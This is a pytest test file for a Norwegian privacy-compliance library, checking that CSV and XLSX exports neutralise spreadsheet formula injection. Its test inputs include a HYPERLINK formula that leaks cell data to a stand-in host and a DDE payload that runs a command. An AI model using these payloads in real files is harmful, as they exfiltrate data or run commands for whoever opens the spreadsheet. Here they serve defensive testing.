"""Every CSV and XLSX export neutralises cells a spreadsheet would run as formulas, and opens in Norwegian
Excel (UTF-8 with BOM, ``;``) unless plain CSV is asked for (issue 18 item 3, issue 15 item 14).

Cells starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return get a leading ``'`` in CSV (OWASP,
CWE-1236); in XLSX they are stored as text, never as a live formula.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import load_workbook

from personvern.audit import export
from personvern.notice.ropa import render_ropa
from personvern.policy import load_policy
from personvern.register import Register
from personvern.rights.portability import portable_data
from personvern.spreadsheet import BOM, safe_cell

POLICY = Path(__file__).resolve().parents[2] / "examples" / "policies" / "tek-zence.yaml"
EVIL = ['=HYPERLINK("http://evil.example/?"&A1)', "+47 cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", EVIL)
def test_safe_cell_prefixes_formula_starts(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Kari Nordmann", "2026-01-05", "", "æøå", "'quoted"])
def test_safe_cell_leaves_plain_text(value: str) -> None:
    assert safe_cell(value) == value


def _evil_policy(tmp_path: Path) -> Path:
    text = POLICY.read_text("utf-8").replace('nb: "Kundeprofil"', 'nb: "=HYPERLINK(\\"http://evil.example\\")"', 1)
    path = tmp_path / "evil.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def test_ropa_csv_is_excel_style_and_neutralised(tmp_path: Path) -> None:
    text = render_ropa(load_policy(_evil_policy(tmp_path)).policy, "csv", "nb")
    assert isinstance(text, str) and text.startswith(BOM)
    rows = list(csv.reader(io.StringIO(text.removeprefix(BOM)), delimiter=";"))
    assert rows[1][0] == '\'=HYPERLINK("http://evil.example")'
    assert len(rows[0]) == len(rows[1]) > 10


def test_ropa_csv_plain_is_comma_without_bom(tmp_path: Path) -> None:
    text = render_ropa(load_policy(_evil_policy(tmp_path)).policy, "csv", "nb", csv_style="plain")
    assert isinstance(text, str) and not text.startswith(BOM)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][0].startswith("'=") and len(rows[0]) > 10


def test_ropa_xlsx_stores_no_formula(tmp_path: Path) -> None:
    data = render_ropa(load_policy(_evil_policy(tmp_path)).policy, "xlsx", "nb")
    assert isinstance(data, bytes)
    path = tmp_path / "ropa.xlsx"
    path.write_bytes(data)
    ws = load_workbook(path).active
    assert ws is not None
    cell = ws["A2"]
    assert cell.value == '=HYPERLINK("http://evil.example")' and cell.data_type == "s"
    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet


def test_portability_csv_is_neutralised(open_register: Callable[[str], Register]) -> None:
    reg = open_register("tp-ecommerce")
    ref = reg.add_subject("customer", {"email": "kari@example.no"})
    reg.write(ref, "order", ["user.name"], {"user.name": "=cmd|' /C calc'!A0"})
    with zipfile.ZipFile(io.BytesIO(portable_data(reg, ref))) as z:
        text = z.read("order.csv").decode("utf-8")
    assert text.startswith(BOM)
    header, row = list(csv.reader(io.StringIO(text.removeprefix(BOM)), delimiter=";"))
    assert row[header.index("user.name")] == "'=cmd|' /C calc'!A0"


def test_audit_csv_export_is_neutralised(reg: Register) -> None:
    # an actor is a code ([\w.:/-]); a leading '-' is the formula start a username can carry
    acting = reg.acting("-1-1", "admin")
    acting.add_subject("customer", {"email": "ola@example.no"})
    with reg.engine.connect() as conn:
        text = export(conn, actor="-1-1", fmt="csv")
        plain = export(conn, actor="-1-1", fmt="csv", csv_style="plain")
    assert text.startswith(BOM)
    rows = list(csv.reader(io.StringIO(text.removeprefix(BOM)), delimiter=";"))
    assert rows[1][2] == "'-1-1"
    assert list(csv.reader(io.StringIO(plain)))[1][2] == "'-1-1"


